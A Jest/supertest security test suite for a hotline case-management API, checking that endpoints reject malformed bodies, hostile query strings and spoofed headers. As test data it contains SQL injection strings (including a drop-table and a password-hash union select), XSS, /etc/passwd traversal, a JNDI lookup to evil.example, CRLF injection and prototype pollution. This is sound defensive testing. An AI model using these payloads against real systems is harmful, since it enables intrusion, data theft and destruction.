import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import supertest, { type Response } from 'supertest';
import type TestAgent from 'supertest/lib/agent.js';
import type { Role } from '../../src/access/roles.js';
import { contactWith, Hotline, POTHOLE } from '../support/hotline.js';
import { type Operation, operationsOf } from '../support/operations.js';
import { hire, signIn } from '../support/people.js';

/** What an answer would never say unless it spoke of the inside. */
const INSIDE =
  /node_modules|\.(js|ts):\d+|\n\s+at |syntax error|relation "|column "|violates|operator does not exist|invalid input syntax|QueryFailed|typeorm|postgres/i;

let hotline: Hotline;
let operations: Operation[];
const people = new Map<Role | null, TestAgent>();

beforeAll(async () => {
  hotline = await Hotline.open({ now: '2026-11-20T09:00:00+08:00' });
  operations = await operationsOf(hotline.server);
  people.set(null, supertest.agent(hotline.server.app.getHttpServer()));
  for (const role of new Set(operations.map(one => one.role)))
    if (role) people.set(role, await signIn(hotline.server.app, role));
  await hotline.record();
  await hotline.server.settle();
});
afterAll(() => hotline.close());

/** Rows of everything but the log: that somebody was searched for is recorded there, whoever it was. */
async function written(): Promise<Record<string, number>> {
  const { event: _recorded, ...rows } = await hotline.rows();
  return rows;
}

const by = ({ role }: Operation): TestAgent => people.get(role) as TestAgent;
const changing = (): Operation[] => operations.filter(({ body }) => body !== null);
const send = (operation: Operation, body: unknown, path = operation.address): ReturnType<TestAgent['post']> =>
  by(operation)
    [operation.method.toLowerCase() as 'post'](path)
    .set('content-type', 'application/json')
    .send((typeof body === 'string' ? body : JSON.stringify(body)) as never);

/** Refused or answered: but by us, in our words, and with nothing of the inside. */
function expectHarmless({ name }: Operation, answer: Response, sent: string): void {
  expect([name, sent, answer.status < 500]).toEqual([name, sent, true]);
  expect([name, sent, INSIDE.exec(answer.text ?? '')?.[0]]).toEqual([name, sent, undefined]);
  if (answer.status >= 400)
    expect(answer.headers['content-type']).toBe('application/problem+json; charset=utf-8');
  expect(answer.headers).not.toHaveProperty('x-planted');
}

/** Where every field may be left out, these are as good as a body without any. */
const EMPTY = ['', 'null', '\ufeff{}'];

describe('A body', () => {
  it('with a field that nobody declared is refused by every endpoint, and the field is named', async () => {
    const before = await written();
    for (const planted of ['role', 'state', 'origin', 'isAdmin', 'createdAt', 'passwordHash', 'staffId']) {
      for (const operation of changing()) {
        if (operation.body?.[planted]) continue;
        const { status, body } = await send(operation, { [planted]: 'admin' });
        // A contractor has no account: the door is public, and closed without the link.
        if (operation.right === 'public' && status === 401) continue;
        const named = (body.fields ?? []).map(({ field }: { field: string }) => field);
        expect([operation.name, status, named]).toEqual([
          operation.name,
          400,
          expect.arrayContaining([planted]),
        ]);
      }
    }
    expect(await written()).toEqual(before);
    expect(changing().length).toBeGreaterThan(15);
  });

  it.each([
    ['in the case', contactWith([{ ...POTHOLE, state: 'released' }]), 'cases.0.state'],
    ['in the case, its number', contactWith([{ ...POTHOLE, number: 'D20261120-00001-1' }]), 'cases.0.number'],
    ['in the case, its incident', contactWith([{ ...POTHOLE, incidentId: 'x' }]), 'cases.0.incidentId'],
    ['in the second case', contactWith([POTHOLE, { ...POTHOLE, version: 9 }]), 'cases.1.version'],
    ['of the person', { ...contactWith([POTHOLE]), citizen: { name: '王', id: 'x' } }, 'citizen.id'],
    ['of the contact', { ...contactWith([POTHOLE]), handledBy: 'x' }, 'handledBy'],
    ['of the contact, its origin', { ...contactWith([POTHOLE]), origin: 'replay' }, 'origin'],
  ])('with a field that nobody declared deeper inside is refused: %s', async (_where, body, field) => {
    const before = await hotline.rows();
    const answer = await hotline.agent.post('/api/contacts').send(body);
    expect([answer.status, answer.body.fields?.[0]?.field]).toEqual([400, field]);
    expect(await hotline.rows()).toEqual(before);
  });

  it('of another shape than declared is refused by every endpoint, field by field', async () => {
    const before = await written();
    const shapes: unknown[] = [
      { $ne: null },
      { toString: 'x' },
      [['x']],
      -1e308,
      `${'9'.repeat(400)}`,
      '\u0000',
      '\ud800',
    ];
    for (const operation of changing()) {
      for (const field of Object.keys(operation.body ?? {})) {
        for (const shape of shapes)
          expectHarmless(
            operation,
            await send(operation, { [field]: shape }),
            `${field}: ${JSON.stringify(shape)}`,
          );
      }
    }
    expect(await written()).toEqual(before);
  });

  it.each([
    ['that pollutes all objects', '{"__proto__":{"planted":1},"text":"x"}'],
    ['that pollutes by the constructor', '{"constructor":{"prototype":{"planted":1}},"text":"x"}'],
    [
      'that pollutes deeper inside',
      '{"cases":[{"__proto__":{"planted":1}}],"citizen":{"__proto__":{"planted":1}}}',
    ],
    ['that is no object', '["x"]'],
    ['that is nothing', 'null'],
    ['that is a number', '7'],
    ['that is a text', '"x"'],
    ['that is cut off', '{"text": "sec'],
    ['that has a comment', '{"text": 1 /* x */}'],
    ['that is nested without end', '['.repeat(200_000)],
    ['that is nested without end, and closed', `{"text":${'['.repeat(50_000)}${']'.repeat(50_000)}}`],
    [
      'that has a hundred thousand fields',
      `{${Array.from({ length: 60_000 }, (_, i) => `"a${i}":1`).join()}}`,
    ],
    ['with a byte order mark', '\ufeff{}'],
    ['that is empty', ''],
  ])('%s is refused by every endpoint, or taken for an empty one', async (what, text) => {
    for (const operation of changing()) {
      const answer = await send(operation, text);
      expectHarmless(operation, answer, what);
      expect([
        operation.name,
        answer.status >= 400 || Object.keys(operation.body ?? {}).length === 0 || EMPTY.includes(text),
      ]).toEqual([operation.name, true]);
    }
    expect('planted' in {}).toBe(false);
  });

  it('of another type than JSON is refused by every endpoint', async () => {
    for (const type of [
      'text/plain',
      'application/xml',
      'application/json; charset=utf-16',
      'application/jsonp',
      'x',
    ]) {
      for (const operation of changing()) {
        const answer = await send(operation, '{"username":"a","password":"b","text":"x"}').set(
          'content-type',
          type,
        );
        expectHarmless(operation, answer, type);
        expect([operation.name, type, answer.status >= 400]).toEqual([operation.name, type, true]);
      }
    }
  });

  it('that is larger than a megabyte is refused before it is read to its end', async () => {
    const { status, body } = await hotline.agent
      .post('/api/contacts')
      .send({ ...contactWith([POTHOLE]), callReference: 'x'.repeat(1024 * 1024) });
    expect([status, body.code]).toEqual([413, 'TOO_LARGE']);
  });
});

it('A form, which any page can make a browser send, is refused by every endpoint that is made for none', async () => {
  const { username, password } = await hire(hotline.server.app, 'agent');
  const form = new URLSearchParams({ username, password, text: 'x', token: 'x' }).toString();
  for (const operation of changing()) {
    const { status, body } = await send(operation, form).set(
      'content-type',
      'application/x-www-form-urlencoded',
    );
    const isMadeForForms = operation.name === 'POST /api/session/oidc/logout';
    expect([operation.name, status, body.code]).toEqual(
      isMadeForForms ? [operation.name, 400, 'INVALID'] : [operation.name, 415, 'MEDIA_TYPE'],
    );
  }
});

describe('A query', () => {
  const HOSTILE = [
    `' or '1'='1' --`,
    `'; drop table case_file; --`,
    `1) union select null, password_hash from staff --`,
    `%' or 1=1 or '%`,
    `\\'; select pg_sleep(9); --`,
    `$1`,
    `{"$ne":null}`,
    `<script>planted=1</script>`,
    `../../../../etc/passwd`,
    `\${jndi:ldap://evil.example/a}`,
    `{{7*7}}`,
    `a\r\nx-planted: 1`,
    `\u0000`,
    '長'.repeat(1000),
    '((((((((((a*)*)*)*)*)*)*)*)*)*$',
    '-1',
    '1e999',
    'NaN',
    '٣',
    '9'.repeat(300),
    '2026-02-30',
    '+275760-09-13T00:00:00.001Z',
  ];
  const ALWAYS_TRUE = [`' or '1'='1' --`, `%' or 1=1 or '%`, `1) or (1=1`, `%%`, `______`, `*`];
  const asked = (): Operation[] => operations.filter(({ method }) => method === 'GET');

  it('with what another language would take for a command finds nothing more, and breaks nothing', async () => {
    const before = await written();
    for (const operation of asked()) {
      for (const name of operation.query) {
        for (const value of HOSTILE) {
          const answer = await by(operation)
            .get(operation.address)
            .query({ [name]: value });
          expectHarmless(operation, answer, `${name}=${value.slice(0, 40)}`);
        }
      }
    }
    expect(await written()).toEqual(before);
    expect(asked().flatMap(({ query }) => query).length).toBeGreaterThan(20);
  });

  it('with a condition that is always true finds what a word finds that is nowhere', async () => {
    for (const operation of asked()) {
      for (const name of operation.query) {
        const nonsense = await by(operation)
          .get(operation.address)
          .query({ [name]: 'zzzzqqqq' });
        if (nonsense.status !== 200) continue;
        for (const value of ALWAYS_TRUE) {
          const { status, body } = await by(operation)
            .get(operation.address)
            .query({ [name]: value });
          if (status === 200)
            expect([operation.name, name, value, count(body)]).toEqual([
              operation.name,
              name,
              value,
              count(nonsense.body),
            ]);
        }
      }
    }
  });

  it('that names a parameter twice, as a list or as an object is refused or read as one text', async () => {
    for (const operation of asked()) {
      for (const name of operation.query) {
        for (const query of [
          `${name}=a&${name}=b`,
          `${name}[]=a&${name}[]=b`,
          `${name}[$ne]=a`,
          `${name}[__proto__][planted]=1`,
          `__proto__[planted]=1&constructor[prototype][planted]=1`,
          `${name}=a;${name}=b`,
        ]) {
          expectHarmless(operation, await by(operation).get(`${operation.address}?${query}`), query);
        }
      }
    }
    expect('planted' in {}).toBe(false);
  });
});

/** How many entries the lists of an answer have. */
const count = (body: object): number =>
  Object.values(body).reduce((sum, value) => sum + (Array.isArray(value) ? value.length : 0), 0);

describe('A header', () => {
  const HOSTILE: Record<string, string>[] = [
    { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' },
    { 'x-original-url': '/api/openapi.json', 'x-rewrite-url': '/api/openapi.json' },
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example' },
    { 'x-user-id': '1', 'x-role': 'admin', authorization: 'Basic YWRtaW46YWRtaW4=' },
    { 'accept-language': `${'en,'.repeat(3000)}` },
    { accept: '../../../etc/passwd', 'accept-encoding': 'gzip;q=x, ../' },
    { range: 'bytes=0-0,'.repeat(500) },
    { 'if-none-match': '*', 'if-modified-since': 'never' },
    { cookie: `${'a=b; '.repeat(2000)}` },
    { 'user-agent': '<script>planted=1</script>\t{jndi:ldap://evil.example}' },
    { 'idempotency-key': `' or 1=1 --` },
    { 'idempotency-key': 'x'.repeat(5000) },
  ];

  it.each(
    HOSTILE.map((headers): [string, Record<string, string>] => [Object.keys(headers).join(', '), headers]),
  )('that would make it another request changes nothing: %s', async (_names, headers) => {
    const stranger = supertest(hotline.server.app.getHttpServer());
    const closed = await stranger.get('/api/cases').set(headers);
    expect(closed.status).toBe(401);
    expect(JSON.stringify([closed.headers, closed.body])).not.toMatch(/evil\.example|planted|root:/);
  });

  it('is not echoed: an answer names neither the host nor the address that was asked for', async () => {
    const answer = await hotline.agent
      .get('/api/%3Cscript%3Eplanted=1%3C/script%3E?next=https://evil.example/')
      .set('host', 'evil.example')
      .set('x-forwarded-host', 'evil.example');
    expect(answer.status).toBe(404);
    expect(JSON.stringify([answer.headers, answer.body])).not.toMatch(/planted|evil\.example/);
  });
});

it('No endpoint sends a browser elsewhere because a request says so', async () => {
  const next = ['next', 'redirect', 'redirect_uri', 'return', 'returnTo', 'url', 'continue', 'target'];
  const query = next.map(name => `${name}=${encodeURIComponent('https://evil.example/')}`).join('&');
  for (const operation of operations.filter(({ method }) => method === 'GET')) {
    const { headers } = await by(operation).get(`${operation.address}?${query}`).redirects(0);
    expect([operation.name, (headers.location ?? '').includes('evil.example')]).toEqual([
      operation.name,
      false,
    ]);
  }
});

it('A method that no endpoint has is refused', async () => {
  for (const method of ['put', 'patch', 'options', 'head'] as const) {
    const { status, headers } = await hotline.supervisor[method]('/api/contacts');
    expect([method, status]).toEqual([method, 404]);
    expect(headers).not.toHaveProperty('access-control-allow-methods');
  }
});
